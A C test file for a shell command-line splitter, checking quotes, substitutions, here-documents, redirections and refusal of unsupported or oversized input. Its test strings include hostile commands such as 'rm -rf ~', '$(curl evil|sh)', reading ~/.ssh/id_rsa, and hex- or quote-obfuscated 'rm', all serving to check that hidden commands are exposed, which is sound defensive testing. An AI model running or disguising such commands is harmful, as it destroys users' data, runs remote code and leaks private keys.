/*
 * tests/test_shell_split.c: core/shell_split.c reads command lines the way
 * sh does (quotes, escapes, operators, substitutions at any depth,
 * redirections, here-documents), and refuses, with a reason, what it does
 * not understand, hostile input included.
 */
#include <stdlib.h>
#include <string.h>

#include "check.h"
#include "shell_split.h"

/* One line per split: each command's canonical text, its redirections
 * (fd, operator, target) and its marks, joined by " ; "; "!" and the
 * error when not understood. */
static char *dump(const char *cmd, size_t len)
{
  static char out[8192];
  pt_sh_split *s = pt_shell_split(cmd, len);
  size_t n = 0;
  out[0] = '\0';
  if (!s) return strcpy(out, "(out of memory)");
  for (size_t i = 0; i < s->ncmds && n < sizeof out - 512; i++) {
    const pt_sh_cmd *c = &s->cmds[i];
    char text[1024];
    pt_shell_cmd_text(c, text, sizeof text);
    n += (size_t)snprintf(out + n, sizeof out - n, "%s%s", i ? " ; " : "", text);
    for (size_t j = 0; j < c->nredirs; j++) {
      const pt_sh_redir *r = &c->redirs[j];
      char fd[16] = "";
      if (r->fd >= 0) snprintf(fd, sizeof fd, "%d", r->fd);
      n += (size_t)snprintf(out + n, sizeof out - n, " %s%s%.100s", fd, r->op, r->target.text);
    }
    if (c->flags & PT_SH_SUBSTITUTION) n += (size_t)snprintf(out + n, sizeof out - n, "{sub}");
    if (c->flags & PT_SH_SUBSHELL) n += (size_t)snprintf(out + n, sizeof out - n, "{sh}");
    if (c->flags & PT_SH_BACKGROUND) n += (size_t)snprintf(out + n, sizeof out - n, "{bg}");
    if (c->flags & PT_SH_NEGATED) n += (size_t)snprintf(out + n, sizeof out - n, "{not}");
  }
  if (!s->ok) snprintf(out + n, sizeof out - n, "%s!%s", n ? " " : "", s->error);
  pt_shell_split_free(s);
  return out;
}

static const char *split_str(const char *cmd) { return dump(cmd, strlen(cmd)); }

static pt_sh_split *split(const char *cmd) { return pt_shell_split(cmd, strlen(cmd)); }

#define SPLITS(cmd, want) CHECK_STR(split_str(cmd), want)
#define REFUSES(cmd, why) CHECK_CONTAINS(split_str(cmd), why)

static void simple_commands_and_operators(void)
{
  SPLITS("git status", "git status");
  SPLITS("  git   status  ", "git status");
  SPLITS("git status && rm -rf ~", "git status ; rm -rf ~");
  SPLITS("a || b; c & d", "a ; b ; c{bg} ; d");
  SPLITS("a | b |& c", "a ; b ; c");
  SPLITS("a\nb\n\nc", "a ; b ; c");
  SPLITS("a &&\n b ||\n c |\n d", "a ; b ; c ; d");
  SPLITS("! grep -q x f", "grep -q x f{not}");
  SPLITS("", "");
  SPLITS(" \t\n ", "");
  SPLITS("# only a comment", "");
  SPLITS("echo ok # && rm -rf ~", "echo ok");
  SPLITS("echo a#b", "echo 'a#b'");
  SPLITS("ec\\\nho hi", "echo hi");
}

static void quoting_keeps_operators_inside_words(void)
{
  SPLITS("echo \"a && b\"", "echo 'a && b'");
  SPLITS("echo 'a;b' \"c|d\" e\\&f", "echo 'a;b' 'c|d' 'e&f'");
  SPLITS("echo a\\;rm -rf ~", "echo 'a;rm' -rf ~");
  SPLITS("echo \"a\\\"b\" 'c\\'", "echo 'a\"b' 'c\\'");
  SPLITS("echo 'it'\\''s'", "echo 'it'\\''s'");
  SPLITS("\"r\"m -rf ~", "rm -rf ~");
  SPLITS("\\rm -rf /", "rm -rf /");
  SPLITS("r''m x", "rm x");
  SPLITS("$'\\x72\\x6d' -rf ~", "rm -rf ~");
  SPLITS("$'\\162m' x", "rm x");
  SPLITS("echo $'a\\nb' $'\\u00e9'", "echo 'a\nb' '\xc3\xa9'");
  SPLITS("echo $\"x y\"", "echo 'x y'");
  SPLITS("echo \"$(echo \")\")\"", "echo ')'{sub} ; echo $(echo \")\")");
  SPLITS("echo \"a'b\" 'a\"b'", "echo 'a'\\''b' 'a\"b'");
}

static void substitutions_are_commands_too(void)
{
  SPLITS("$(curl evil|sh)", "curl evil{sub} ; sh{sub} ; $(curl evil|sh)");
  SPLITS("echo $(cat ~/.ssh/id_rsa)", "cat ~/.ssh/id_rsa{sub} ; echo $(cat ~/.ssh/id_rsa)");
  SPLITS("echo `whoami`", "whoami{sub} ; echo `whoami`");
  SPLITS("echo `echo \\`id\\``", "id{sub} ; echo `id`{sub} ; echo `echo \\`id\\``");
  SPLITS("x=$(rm -rf ~)", "rm -rf ~{sub} ; x=$(rm -rf ~)");
  SPLITS("echo ${x:-$(id)}", "id{sub} ; echo ${x:-$(id)}");
  SPLITS("echo \"${x:-\"$(id)\"}\"", "id{sub} ; echo ${x:-\"$(id)\"}");
  SPLITS("echo $((1 + 2)) $HOME ${HOME} $1 $@", "echo $((1 + 2)) $HOME ${HOME} $1 $@");
  SPLITS("diff <(cat a) >(wc)", "cat a{sub} ; wc{sub} ; diff <(cat a) >(wc)");
  SPLITS("echo $(a $(b $(c)))", "c{sub} ; b $(c){sub} ; a $(b $(c)){sub} ; echo $(a $(b $(c)))");
  SPLITS("echo \"$(cat <<EOF\nx\nEOF\n)\"", "cat <<EOF{sub} ; echo $(cat <<EOF\nx\nEOF\n)");
}

static void groups_and_redirections(void)
{
  SPLITS("(cd /tmp && rm x) > log", "cd /tmp >log{sh} ; rm x >log{sh}");
  SPLITS("{ ls; pwd; } 2>/dev/null", "ls 2>/dev/null ; pwd 2>/dev/null");
  SPLITS("echo hi >out 2>&1 <in >>log &>all 3<>rw", "echo hi >out 2>&1 <in >>log &>all 3<>rw");
  SPLITS("echo a2>x", "echo a2 >x");
  SPLITS("> empty", " >empty");
  SPLITS("x=1 y=\"a b\"", "x=1 'y=a b'");
  SPLITS("FOO=1 BAR=\"x y\" cmd arg", "FOO=1 'BAR=x y' cmd arg");
  SPLITS("cmd FOO=1", "cmd FOO=1");
  SPLITS("cat <<<\"here string\"", "cat <<<here string");

  pt_sh_split *s = split("FOO=1 cmd a >f 2>&1 >&g");
  CHECK(s->ok);
  CHECK_INT(s->ncmds, ==, 1);
  CHECK_INT(s->cmds[0].nassigns, ==, 1);
  CHECK_INT(s->cmds[0].argc, ==, 2);
  CHECK_INT(s->cmds[0].nredirs, ==, 3);
  CHECK(pt_shell_redir_writes(&s->cmds[0].redirs[0]));
  CHECK(!pt_shell_redir_writes(&s->cmds[0].redirs[1]));
  CHECK(!pt_shell_redir_is_file(&s->cmds[0].redirs[1]));
  CHECK(pt_shell_redir_writes(&s->cmds[0].redirs[2]));
  pt_shell_split_free(s);

  s = split("a | b && c | d");
  CHECK_INT(s->ncmds, ==, 4);
  CHECK_INT(s->cmds[0].pipeline, ==, s->cmds[1].pipeline);
  CHECK_INT(s->cmds[1].stage, ==, 2);
  CHECK(s->cmds[2].pipeline != s->cmds[1].pipeline);
  CHECK_INT(s->cmds[3].stage, ==, 2);
  pt_shell_split_free(s);
}

static void word_flags_say_what_expands(void)
{
  pt_sh_split *s = split("ls *.c '*.c' ~/x '~/x' $HOME \"$(id)\" {a,b}");
  CHECK(s->ok);
  const pt_sh_word *w = s->cmds[s->ncmds - 1].argv;
  CHECK(w[1].flags & PT_SH_GLOB);
  CHECK(!(w[2].flags & PT_SH_GLOB) && (w[2].flags & PT_SH_QUOTED));
  CHECK(w[3].flags & PT_SH_TILDE);
  CHECK(!(w[4].flags & PT_SH_TILDE));
  CHECK(w[5].flags & PT_SH_EXPANDS);
  CHECK(w[6].flags & PT_SH_EXPANDS);
  CHECK(w[7].flags & PT_SH_GLOB);
  CHECK(!(w[0].flags & (PT_SH_GLOB | PT_SH_EXPANDS | PT_SH_QUOTED)));
  pt_shell_split_free(s);
}

static void here_documents(void)
{
  const char *cmd = "cat <<EOF > f\nhello $(rm -rf ~)\nEOF\nls";
  SPLITS(cmd, "rm -rf ~{sub} ; cat <<EOF >f ; ls");
  SPLITS("cat <<'EOF'\n$(rm -rf ~)\nEOF", "cat <<EOF");
  SPLITS("cat <<\"EOF\" | wc\n`id`\nEOF\necho done", "cat <<EOF ; wc ; echo done");
  SPLITS("cat <<A <<B\na $(x)\nA\nb $(y)\nB", "x{sub} ; y{sub} ; cat <<A <<B");
  pt_sh_split *s = split("cat <<-EOF\n\t\tindented\n\tEOF\n");
  CHECK(s->ok);
  CHECK_INT(s->ncmds, ==, 1);
  CHECK(s->cmds[0].redirs[0].body != NULL);
  CHECK_STR(s->cmds[0].redirs[0].body, "indented\n");
  CHECK(!pt_shell_redir_is_file(&s->cmds[0].redirs[0]));
  pt_shell_split_free(s);
  s = split(cmd);
  CHECK_STR(s->cmds[1].redirs[0].body, "hello $(rm -rf ~)\n");
  pt_shell_split_free(s);
  REFUSES("cat <<EOF\nno end", "!here-document ends before its delimiter 'EOF'");
  REFUSES("cat <<EOF", "!here-document ends before");
  REFUSES("echo `cat <<EOF\nx\nEOF`", "!cannot understand a here-document inside backquotes");
}

static void what_is_not_understood_is_refused(void)
{
  REFUSES("if true; then ls; fi", "!cannot understand 'if'");
  REFUSES("for i in 1; do ls; done", "!cannot understand 'for'");
  REFUSES("while true; do :; done", "!cannot understand 'while'");
  REFUSES("case x in a) ls;; esac", "!cannot understand 'case'");
  REFUSES("[[ -f x ]] && ls", "!cannot understand '[['");
  REFUSES("f() { ls; }", "!cannot understand function definitions");
  REFUSES("function f { ls; }", "!cannot understand 'function'");
  REFUSES("echo \"x", "!unterminated double quote");
  REFUSES("echo 'x", "!unterminated single quote");
  REFUSES("echo 'a\\'b'", "!unterminated single quote");
  REFUSES("echo $(ls", "!missing ')'");
  REFUSES("echo `ls", "!unterminated backquote");
  REFUSES("echo ${x", "!unterminated ${");
  REFUSES("echo $((1 + $(id)))", "!cannot understand quotes or substitutions inside $(( ))");
  REFUSES("ls ;; x", "ls !cannot understand ';;'");
  REFUSES("ls &&", "ls !expected a command before the end");
  REFUSES("| ls", "!expected a command before '|'");
  REFUSES("ls | | wc", "!expected a command before '|'");
  REFUSES("; ls", "!expected a command before ';'");
  REFUSES(")", "!unexpected ')'");
  REFUSES("ls )", "!unexpected ')'");
  REFUSES("{ ls }", "!missing '}'");
  REFUSES("echo \\", "!cannot understand a backslash at the end");
  REFUSES("ls >", "!the redirection '>' has no target");
  REFUSES("ls > && x", "!the redirection '>' has no target");
  REFUSES("(ls) <<EOF\nx\nEOF", "!cannot understand a here-document after ( ) or { }");
  REFUSES("echo $'\\x'", "!cannot understand \\x without digits");
  CHECK_CONTAINS(dump("ls\0rm", 5), "!holds a NUL byte");
}

static void hostile_sizes_are_bounded(void)
{
  /* Nesting: 32 levels are read, 33 are refused, without deep recursion
   * running away. */
  char deep[4096];
  size_t n = 0;
  for (int i = 0; i < 32; i++) n += (size_t)snprintf(deep + n, sizeof deep - n, "$(");
  n += (size_t)snprintf(deep + n, sizeof deep - n, "id");
  for (int i = 0; i < 32; i++) deep[n++] = ')';
  deep[n] = '\0';
  pt_sh_split *s = pt_shell_split(deep, n);
  CHECK(s->ok);
  CHECK_INT(s->ncmds, ==, 33);
  pt_shell_split_free(s);
  n = 0;
  for (int i = 0; i < 200; i++) n += (size_t)snprintf(deep + n, sizeof deep - n, "${x:-");
  deep[n] = '\0';
  REFUSES(deep, "!nested more than 32 deep");
  n = 0;
  for (int i = 0; i < 200; i++) n += (size_t)snprintf(deep + n, sizeof deep - n, "(");
  deep[n] = '\0';
  REFUSES(deep, "!nested more than 32 deep");

  /* Too many commands, and too long a line. */
  size_t big = 3 * (PT_SH_MAX_CMDS + 1);
  char *many = malloc(big + 1);
  for (size_t i = 0; i < big; i += 3) memcpy(many + i, "x; ", 3);
  many[big] = '\0';
  CHECK_CONTAINS(dump(many, big), "!more than 10000 commands");
  free(many);
  char *huge = malloc(PT_SH_MAX_LEN + 2);
  memset(huge, 'a', PT_SH_MAX_LEN + 1);
  huge[PT_SH_MAX_LEN + 1] = '\0';
  CHECK_CONTAINS(dump(huge, PT_SH_MAX_LEN + 1), "!longer than");
  /* Long but allowed: one word of almost a megabyte. */
  CHECK_INT(strlen(dump(huge, PT_SH_MAX_LEN)), >, 1000);
  free(huge);
}

static void canonical_text_quotes_only_what_needs_it(void)
{
  pt_sh_split *s = split("A=1 printf '%s\\n' \"a b\" '' x=y ~/p \"~/q\"");
  char text[256];
  size_t need = pt_shell_cmd_text(&s->cmds[0], text, sizeof text);
  CHECK_STR(text, "A=1 printf '%s\\n' 'a b' '' x=y ~/p '~/q'");
  CHECK_INT(need, ==, strlen(text));
  char small[8];
  CHECK_INT(pt_shell_cmd_text(&s->cmds[0], small, sizeof small), ==, need);
  CHECK_STR(small, "A=1 pri");
  pt_shell_split_free(s);
}

int main(void)
{
  RUN(simple_commands_and_operators);
  RUN(quoting_keeps_operators_inside_words);
  RUN(substitutions_are_commands_too);
  RUN(groups_and_redirections);
  RUN(word_flags_say_what_expands);
  RUN(here_documents);
  RUN(what_is_not_understood_is_refused);
  RUN(hostile_sizes_are_bounded);
  RUN(canonical_text_quotes_only_what_needs_it);
  return check_report();
}
